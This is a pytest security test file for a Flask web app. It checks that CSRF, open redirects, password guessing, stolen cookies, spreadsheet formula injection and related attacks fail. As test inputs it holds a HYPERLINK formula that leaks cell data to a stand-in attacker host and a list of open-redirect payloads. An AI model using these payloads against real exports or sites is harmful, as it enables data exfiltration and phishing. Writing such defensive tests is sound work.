"""Each attack of issue 14, performed against the app, fails: cross-site form posts and uploads, open redirects
after login, password guessing, reused cookies, formulas in exports, forged sessions from a constant secret,
weak passwords, framing, cached personal pages, self-demotion through the page, world-readable data files,
unaudited reads and telling cadre ids apart by 403 / 404.

Cross-worker throttling under real gunicorn is in ``tests/test_deploy.py``.
"""

from __future__ import annotations

import csv
import io
import logging
import multiprocessing
import re
import stat
from pathlib import Path

import pytest
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import Workbook, load_workbook

from api.accounts import AccountError, Accounts, accounts, check_password
from kg.model import Node
from kg.spreadsheet import csv_row, from_csv_cell, xlsx_row
from tests.test_api_support import (  # noqa: F401  (fixtures)
    PASSWORD,
    AuthActions,
    app,
    auth,
    bearer,
    client,
    index_dir,
    settings_for,
    template_home,
)

EVIL = "http://evil.example"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"点此查看")'


def users_named(app: Flask, username: str) -> list:
    with app.app_context():
        return [u for u in accounts().users() if u.username == username]


def audit_actions(app: Flask, action: str) -> list:
    with app.app_context():
        return accounts().audit_log(200, action=action)[1]


# ─── CSRF ───
NEW_ADMIN = {"username": "intruder", "password": "a-long-passphrase-9", "role": "admin"}


def test_foreign_origin_form_post_is_refused(client: FlaskClient, auth: AuthActions, app: Flask) -> None:
    auth.login("admin")
    token = client.csrf_token()
    response = client.post("/admin/users", data={**NEW_ADMIN, "csrf_token": token}, headers={"Origin": EVIL})
    assert response.status_code == 403 and "拒绝跨站请求" in response.get_data(as_text=True)
    referred = client.post("/admin/users", data={**NEW_ADMIN, "csrf_token": token},
                           headers={"Referer": f"{EVIL}/page"})
    assert referred.status_code == 403
    assert users_named(app, "intruder") == []


def test_form_post_without_token_is_refused(client: FlaskClient, auth: AuthActions, app: Flask) -> None:
    auth.login("admin")
    response = client.post("/admin/users", data=NEW_ADMIN, csrf=False)
    assert response.status_code == 403 and "跨站校验" in response.get_data(as_text=True)
    forged = client.post("/admin/users", data={**NEW_ADMIN, "csrf_token": "forged"}, csrf=False)
    assert forged.status_code == 403
    assert users_named(app, "intruder") == []


def test_same_site_form_post_with_token_works(client: FlaskClient, auth: AuthActions, app: Flask) -> None:
    auth.login("admin")
    response = client.post("/admin/users", data=NEW_ADMIN, headers={"Origin": "http://localhost"})
    assert response.status_code == 302
    assert [u.role for u in users_named(app, "intruder")] == ["admin"]


def test_foreign_origin_upload_with_the_admins_cookie_is_refused(client: FlaskClient, auth: AuthActions) -> None:
    auth.login("admin")
    line = b'{"type": "Topic", "id": "topic:x"}\n'
    response = client.post("/api/admin/import", data={"files": (io.BytesIO(line), "x.jsonl")},
                           content_type="multipart/form-data", headers={"Origin": EVIL})
    assert response.status_code == 403
    assert response.json["状态"] == 403 and "Origin" in response.json["字段"]
    untokened = client.post("/api/admin/import", data={"files": (io.BytesIO(line), "x.jsonl")},
                            content_type="multipart/form-data", csrf=False)
    assert untokened.status_code == 403 and untokened.json["字段"] == {"csrf_token": ["缺少安全令牌"]}


def test_bearer_calls_need_no_token(client: FlaskClient, app: Flask) -> None:
    response = client.post("/api/admin/users", json={**NEW_ADMIN, "role": "designer"}, headers=bearer(app, "admin"))
    assert response.status_code == 201
    anonymous = client.post("/api/auth/token", json={"username": "admin", "password": PASSWORD}, csrf=False)
    assert anonymous.status_code == 201  # no cookie, nothing ambient to ride on


def test_login_form_itself_needs_the_token(client: FlaskClient) -> None:
    response = client.post("/login", data={"username": "admin", "password": PASSWORD}, csrf=False)
    assert response.status_code == 403
    assert client.get("/api/auth/me").status_code == 401


# ─── open redirect ───
@pytest.mark.parametrize("target", ["/%09/evil.example/phish", "//evil.example/x", "/%5Cevil.example", "/\\evil.example",
                                    "/%0d/evil.example", "/%0a/x", "https://evil.example/", "/%20/evil.example",
                                    "javascript:alert(1)", "/%00"])
def test_next_never_leaves_the_site(client: FlaskClient, target: str) -> None:
    response = client.post(f"/login?next={target}", data={"username": "designer", "password": PASSWORD})
    assert response.status_code == 302
    assert response.location == "/"


def test_next_keeps_a_same_site_path(client: FlaskClient) -> None:
    response = client.post("/login?next=/designer/coverage%3Ftop%3D5", data={"username": "designer", "password": PASSWORD})
    assert response.location == "/designer/coverage?top=5"


# ─── throttling ───
def test_eleventh_wrong_password_gets_429_on_the_api(client: FlaskClient, app: Flask) -> None:
    wrong = {"username": "admin", "password": "wrong-password"}
    assert [client.post("/api/auth/token", json=wrong).status_code for _ in range(10)] == [401] * 10
    response = client.post("/api/auth/token", json=wrong)
    assert response.status_code == 429
    assert response.json == {"状态": 429, "错误": "登录失败次数过多，请 1 分钟后再试",
                             "字段": {"username": ["登录失败次数过多，请 1 分钟后再试"]}}
    assert response.headers["Retry-After"] == "60"
    # the right password does not get through either while the window is full: guessing gains nothing
    assert client.post("/api/auth/token", json={"username": "admin", "password": PASSWORD}).status_code == 429


def test_page_and_api_share_the_account_count(client: FlaskClient) -> None:
    for _ in range(5):
        assert client.post("/login", data={"username": "Admin ", "password": "x"}).status_code == 401
        assert client.post("/api/auth/token", json={"username": "admin", "password": "x"}).status_code == 401
    page = client.post("/login", data={"username": "admin", "password": "x"})
    assert page.status_code == 429 and "text/html" in page.content_type
    assert "登录失败次数过多，请 1 分钟后再试" in page.get_data(as_text=True)


def test_per_address_count_covers_many_accounts(client: FlaskClient) -> None:
    for k in range(10):
        assert client.post("/api/auth/token", json={"username": f"guess{k}", "password": "x"}).status_code == 401
    assert client.post("/api/auth/token", json={"username": "guess-new", "password": "x"}).status_code == 429


def test_successful_logins_are_not_counted(client: FlaskClient) -> None:
    right = {"username": "admin", "password": PASSWORD}
    assert {client.post("/api/auth/token", json=right).status_code for _ in range(12)} == {201}


def test_parallel_guesses_check_at_most_the_limit(app: Flask) -> None:
    """16 wrong passwords at once (as gunicorn's 4 workers × 4 threads would run them): the attempt is counted
    before the password is checked, so only 10 passwords are hashed and the other 6 are refused with a 429."""
    import threading

    store = app.extensions["ganxun.accounts"]
    checked: list[str] = []
    lock = threading.Lock()
    start = threading.Barrier(16)
    real = store.authenticate

    def counting(username: str, password: str):  # noqa: ANN202
        with lock:
            checked.append(username)
        return real(username, password)

    store.authenticate = counting
    statuses: list[int] = []

    def guess() -> None:
        client = app.test_client()
        start.wait()
        status = client.post("/api/auth/token", json={"username": "admin", "password": "wrong-password"}).status_code
        with lock:
            statuses.append(status)

    try:
        threads = [threading.Thread(target=guess) for _ in range(16)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(120)
    finally:
        del store.authenticate
    assert len(checked) == 10
    assert sorted(statuses) == [401] * 10 + [429] * 6


def _proxied_app(template_home: Path, index_dir: Path, tmp_path: Path, hops: int) -> Flask:
    import shutil

    from api import create_app
    from tests.test_api_support import app_config, with_csrf_client

    home = tmp_path / f"home-{hops}"
    shutil.copytree(template_home, home)
    return with_csrf_client(create_app(app_config(home, index_dir, PROXY_HOPS=hops)))


@pytest.mark.parametrize("hops", [0, 1])
def test_forwarded_address_counts_only_behind_a_trusted_proxy(template_home: Path, index_dir: Path, tmp_path: Path,
                                                               hops: int) -> None:
    """Ten failures forwarded for one client: with one trusted hop another forwarded client may still log in;
    with none the header is ignored and every request is the proxy's (the same address), so it is refused."""
    proxied = _proxied_app(template_home, index_dir, tmp_path, hops)
    try:
        client = proxied.test_client()
        for k in range(10):
            assert client.post("/api/auth/token", json={"username": f"guess{k}", "password": "x"},
                               headers={"X-Forwarded-For": "203.0.113.7"}).status_code == 401
        other = client.post("/api/auth/token", json={"username": "admin", "password": PASSWORD},
                            headers={"X-Forwarded-For": "198.51.100.2"})
        assert other.status_code == (201 if hops else 429)
        again = client.post("/api/auth/token", json={"username": "guess-new", "password": "x"},
                            headers={"X-Forwarded-For": "203.0.113.7"})
        assert again.status_code == 429
    finally:
        proxied.extensions["ganxun.graph"].close()


def _hit_from_another_process(path: str, count: int) -> None:
    from limits import parse
    from limits.strategies import MovingWindowRateLimiter

    from api.security import SqliteStorage

    limiter = MovingWindowRateLimiter(SqliteStorage(f"ganxun-sqlite://{path}"))
    for _ in range(count):
        limiter.hit(parse("10 per minute"), "account:admin")


def test_the_limit_store_is_shared_by_processes(tmp_path: Path) -> None:
    from limits import parse
    from limits.strategies import MovingWindowRateLimiter

    from api.security import SqliteStorage

    path = str(tmp_path / "limits.db")
    worker = multiprocessing.get_context("spawn").Process(target=_hit_from_another_process, args=(path, 7))
    worker.start()
    worker.join(120)
    assert worker.exitcode == 0
    limiter = MovingWindowRateLimiter(SqliteStorage(f"ganxun-sqlite://{path}"))
    item = parse("10 per minute")
    assert limiter.get_window_stats(item, "account:admin").remaining == 3
    assert [limiter.hit(item, "account:admin") for _ in range(4)] == [True, True, True, False]
    assert limiter.hit(item, "account:someone-else")


# ─── revocable sessions ───
def _cookie(client: FlaskClient) -> str:
    return client.get_cookie("session").value


def test_old_cookie_is_refused_after_logout(client: FlaskClient, auth: AuthActions, app: Flask) -> None:
    auth.login("designer")
    stolen = _cookie(client)
    auth.logout()
    thief = app.test_client()
    thief.set_cookie("session", stolen)
    assert thief.get("/api/auth/me").status_code == 401


@pytest.mark.parametrize("change", [{"password": "another-long-passphrase"}, {"role": "evaluator"}, {"active": False}])
def test_old_cookie_is_refused_after_a_change_to_the_user(client: FlaskClient, auth: AuthActions, app: Flask,
                                                          change: dict) -> None:
    auth.login("designer")
    assert client.get("/api/auth/me").status_code == 200
    user_id = users_named(app, "designer")[0].id
    admin = app.test_client()
    assert admin.patch(f"/api/admin/users/{user_id}", json=change, headers=bearer(app, "admin")).status_code == 200
    assert client.get("/api/auth/me").status_code == 401


def test_a_stateless_user_id_cookie_is_not_honoured(client: FlaskClient) -> None:
    with client.session_transaction() as session:
        session["user_id"] = 1  # the shape every earlier cookie had, signed with the app's own key
    assert client.get("/api/auth/me").status_code == 401


def test_sessions_expire_on_the_server(client: FlaskClient, auth: AuthActions, app: Flask) -> None:
    response = auth.login("designer")
    assert "Expires=" in response.headers["Set-Cookie"]  # the cookie ends with the session, not with Flask's 31 days
    with app.app_context():
        conn = accounts()._connections.get()
        conn.execute("UPDATE sessions SET expires = '2000-01-01T00:00:00+00:00'")
    assert client.get("/api/auth/me").status_code == 401


def test_session_lifetime_is_configurable(template_home: Path, index_dir: Path, tmp_path: Path) -> None:
    import shutil

    from api import create_app
    from tests.test_api_support import app_config, with_csrf_client

    home = tmp_path / "home"
    shutil.copytree(template_home, home)
    short = with_csrf_client(create_app(app_config(home, index_dir, SESSION_HOURS=2)))
    assert short.permanent_session_lifetime.total_seconds() == 2 * 3600
    with short.app_context():
        assert accounts().session_hours == 2
    short.extensions["ganxun.graph"].close()


# ─── formulas in exports ───
def test_formula_cells_read_as_text_in_openpyxl(tmp_path: Path) -> None:
    book = Workbook()
    book.active.append(xlsx_row([FORMULA, "+1", "-2", "@SUM(A1)", "\t=1", "plain", -5, 3.5]))
    book.save(tmp_path / "x.xlsx")
    cells = next(load_workbook(tmp_path / "x.xlsx").active.iter_rows())
    assert [c.value for c in cells] == [FORMULA, "+1", "-2", "@SUM(A1)", "\t=1", "plain", -5, 3.5]
    assert [c.data_type for c in cells[:6]] == ["s"] * 6 and cells[0].quotePrefix


def test_formula_cells_in_csv_get_an_apostrophe_and_read_back() -> None:
    row = csv_row([FORMULA, "+1", "@x", "plain", -5])
    assert row == ["'" + FORMULA, "'+1", "'@x", "plain", -5]
    assert [from_csv_cell(str(v)) for v in row] == [FORMULA, "+1", "@x", "plain", "-5"]
    assert from_csv_cell("'plain") == "'plain"


def _name_a_course(app: Flask, course_id: str, name: str) -> None:
    with app.app_context():
        store = app.extensions["ganxun.graph"].store
        node = store.get_node(course_id)
        store.write([Node(node.id, node.label, {**node.props, "name": name})], [])


@pytest.mark.parametrize("route", ["/api/admin/export?format=xlsx&type=Course", "/api/cadres/cadre:t-001/records?format=xlsx"])
def test_exported_formula_reads_as_text(client: FlaskClient, app: Flask, route: str) -> None:
    _name_a_course(app, "course:t-theory", FORMULA)
    response = client.get(route, headers=bearer(app, "admin"))
    assert response.status_code == 200
    cells = [c for row in load_workbook(io.BytesIO(response.data)).worksheets[0].iter_rows() for c in row]
    found = [c for c in cells if isinstance(c.value, str) and FORMULA in c.value]
    assert found and all(c.data_type == "s" for c in found)


def test_exported_csv_neutralises_formulas(client: FlaskClient, app: Flask) -> None:
    _name_a_course(app, "course:t-theory", FORMULA)
    response = client.get("/api/admin/export?format=csv&type=Course", headers=bearer(app, "admin"))
    cells = [v for row in csv.reader(io.StringIO(response.data.decode("utf-8-sig"))) for v in row]
    assert "'" + FORMULA in cells and FORMULA not in cells


# ─── secrets and passwords ───
def _dev_app(tmp_path: Path, name: str) -> Flask:
    from api import create_app

    home = tmp_path / name
    return create_app({"DEVELOPMENT": True, "SETTINGS": settings_for(home), "ACCOUNTS_DB": str(home / "a.db")})


def test_dev_server_secret_differs_between_starts(tmp_path: Path, monkeypatch, caplog) -> None:
    monkeypatch.delenv("GANXUN_SECRET_KEY", raising=False)
    with caplog.at_level(logging.WARNING, logger="api"):
        first, second = _dev_app(tmp_path, "one"), _dev_app(tmp_path, "two")
    assert first.secret_key != second.secret_key and len(first.secret_key) >= 32
    assert "未设置 GANXUN_SECRET_KEY，已为本次启动生成随机密钥，重启后会话失效" in caplog.text
    for app in (first, second):
        app.extensions["ganxun.graph"].close()


def test_production_refuses_a_weak_secret(tmp_path: Path) -> None:
    from api import ConfigError, create_app

    config = {"SETTINGS": settings_for(tmp_path), "ACCOUNTS_DB": str(tmp_path / "a.db")}
    with pytest.raises(ConfigError, match="至少 32 个字符"):
        create_app({**config, "SECRET_KEY": "x"})
    strong = create_app({**config, "SECRET_KEY": "k" * 32})
    strong.extensions["ganxun.graph"].close()


@pytest.mark.parametrize(("password", "message"), [
    ("short-1", "至少 10 个字符"), ("12345678901", "全是数字"), ("Password123", "过于常见"),
    ("qwertyuiop", "过于常见"), ("woaini1314", "过于常见"), ("designer-x", None),
])
def test_password_policy(password: str, message: str | None) -> None:
    if message is None:
        check_password(password, "designer")
        return
    with pytest.raises(AccountError, match=message) as caught:
        check_password(password, "someone")
    assert caught.value.field == "password"


def test_weak_password_is_a_422_naming_the_field(client: FlaskClient, app: Flask) -> None:
    response = client.post("/api/admin/users", json={"username": "weak", "password": "1234567890", "role": "designer"},
                           headers=bearer(app, "admin"))
    assert response.status_code == 422 and response.json["字段"] == {"password": ["密码不能全是数字"]}
    same = client.post("/api/admin/users", json={"username": "samename12", "password": "SameName12", "role": "designer"},
                       headers=bearer(app, "admin"))
    assert same.status_code == 422 and "与用户名相同" in same.json["错误"]


# ─── headers ───
def test_security_headers_and_a_csp_the_pages_use(client: FlaskClient, auth: AuthActions) -> None:
    page = client.get("/login")
    assert page.headers["X-Frame-Options"] == "DENY"
    assert page.headers["X-Content-Type-Options"] == "nosniff"
    assert page.headers["Referrer-Policy"] == "same-origin"
    csp = page.headers["Content-Security-Policy"]
    assert "frame-ancestors 'none'" in csp and "object-src 'none'" in csp and "'unsafe-inline'" not in csp.split("style-src")[0]
    auth.login("admin")
    jobs_page = client.get("/admin/jobs")  # polls its running jobs from an inline script
    nonce = re.search(r"'nonce-([^']+)'", jobs_page.headers["Content-Security-Policy"]).group(1)
    inline = re.findall(r"<script(?![^>]*\bsrc=)(?![^>]*application/json)([^>]*)>", jobs_page.get_data(as_text=True))
    assert inline and all(f'nonce="{nonce}"' in attrs for attrs in inline)


@pytest.mark.parametrize("path", ["/api/auth/me", "/api/cadres/cadre:t-001/gaps", "/cadre/"])
def test_personal_responses_are_not_stored(client: FlaskClient, app: Flask, path: str) -> None:
    response = client.get(path, headers=bearer(app, "cadre1"))
    assert response.status_code == 200 and response.headers["Cache-Control"] == "no-store"


# ─── the users page ───
def test_admin_cannot_demote_or_deactivate_themselves_on_the_page(client: FlaskClient, auth: AuthActions,
                                                                  app: Flask) -> None:
    auth.login("admin")
    me = users_named(app, "admin")[0]
    for form in ({"role": "designer", "active": "1"}, {"role": "admin", "active": "0"}):
        response = client.post(f"/admin/users/{me.id}", data=form, follow_redirects=True)
        assert "不能停用自己或取消自己的管理员角色" in response.get_data(as_text=True)
    assert users_named(app, "admin")[0].role == "admin" and users_named(app, "admin")[0].active


def test_a_form_without_active_leaves_the_status(client: FlaskClient, auth: AuthActions, app: Flask) -> None:
    auth.login("admin")
    designer = users_named(app, "designer")[0]
    assert client.post(f"/admin/users/{designer.id}", data={"role": "evaluator"}).status_code == 302
    changed = users_named(app, "designer")[0]
    assert changed.role == "evaluator" and changed.active


# ─── files ───
def test_personal_data_files_are_private(app: Flask, tmp_path: Path) -> None:
    home = Path(app.config["ACCOUNTS_DB"]).parent
    for name in ("accounts.db", "ganxun.db", "jobs.db"):
        path = home / name
        assert path.exists(), name
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, name
    fresh = Accounts(tmp_path / "fresh" / "accounts.db", password_method="pbkdf2:sha256:1000")
    assert stat.S_IMODE(fresh.path.stat().st_mode) == 0o600


def test_job_result_files_are_private(client: FlaskClient, app: Flask) -> None:
    with app.app_context():
        from api.jobs import jobs

        path = jobs().output_path("整图导出", ".ttl")
        path.write_text("personal")
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700


# ─── audit and one answer for other cadres ───
@pytest.mark.parametrize("route", ["", "/gaps", "/recommendations"])
def test_admins_reads_of_a_cadre_are_audited(client: FlaskClient, app: Flask, route: str) -> None:
    response = client.get(f"/api/cadres/cadre:t-002{route}", headers=bearer(app, "admin"))
    assert response.status_code == 200
    entries = audit_actions(app, "查阅干部数据")
    assert [(e.username, e.target) for e in entries] == [("admin", "cadre:t-002")]
    assert entries[0].detail["内容"] == f"/api/cadres/cadre:t-002{route}"  # the path read, as an admin reads it
    own = client.get(f"/api/cadres/cadre:t-001{route}", headers=bearer(app, "cadre1"))
    assert own.status_code == 200 and len(audit_actions(app, "查阅干部数据")) == 1  # one's own reads are not


def test_an_admins_cadre_search_is_audited(client: FlaskClient, auth: AuthActions, app: Flask) -> None:
    """The search page lists cadres' names and organisations: who searched, for what, and which cadres it showed."""
    auth.login("admin")
    assert client.get("/admin/cadres").status_code == 200 and audit_actions(app, "查找干部") == []  # the empty form
    assert "样例干部乙" in client.get("/admin/cadres?q=样例干部").get_data(as_text=True)
    entries = audit_actions(app, "查找干部")
    assert [e.username for e in entries] == ["admin"]
    assert entries[0].detail["查询"] == "样例干部" and set(entries[0].detail["干部"]) == {"cadre:t-001", "cadre:t-002"}
    assert "查询：样例干部" in client.get("/admin/audit").get_data(as_text=True)


def test_an_import_that_dies_is_audited(client: FlaskClient, app: Flask, monkeypatch) -> None:
    import api.transfer

    def broken(*args, **kwargs):
        raise RuntimeError("disk full")

    monkeypatch.setattr(api.transfer, "import_files", broken)
    response = client.post("/api/admin/import", data={"files": (io.BytesIO(b"{}\n"), "x.jsonl")},
                           content_type="multipart/form-data", headers=bearer(app, "admin"))
    assert response.status_code == 500
    [entry] = audit_actions(app, "导入失败")
    assert entry.username == "admin" and entry.detail["files"] == ["x.jsonl"] and "disk full" in entry.detail["error"]


@pytest.mark.parametrize("suffix", ["", "/gaps", "/records", "/records?format=csv", "/hours"])
def test_another_cadres_id_gets_the_same_403_whether_or_not_it_exists(client: FlaskClient, app: Flask,
                                                                      suffix: str) -> None:
    header = bearer(app, "cadre1")
    path, _, query = suffix.partition("?")
    answers = [client.get(f"/api/cadres/{cadre}{path}", query_string=query, headers=header)
               for cadre in ("cadre:t-002", "cadre:no-such-cadre")]
    assert [a.status_code for a in answers] == [403, 403]
    assert answers[0].json == answers[1].json
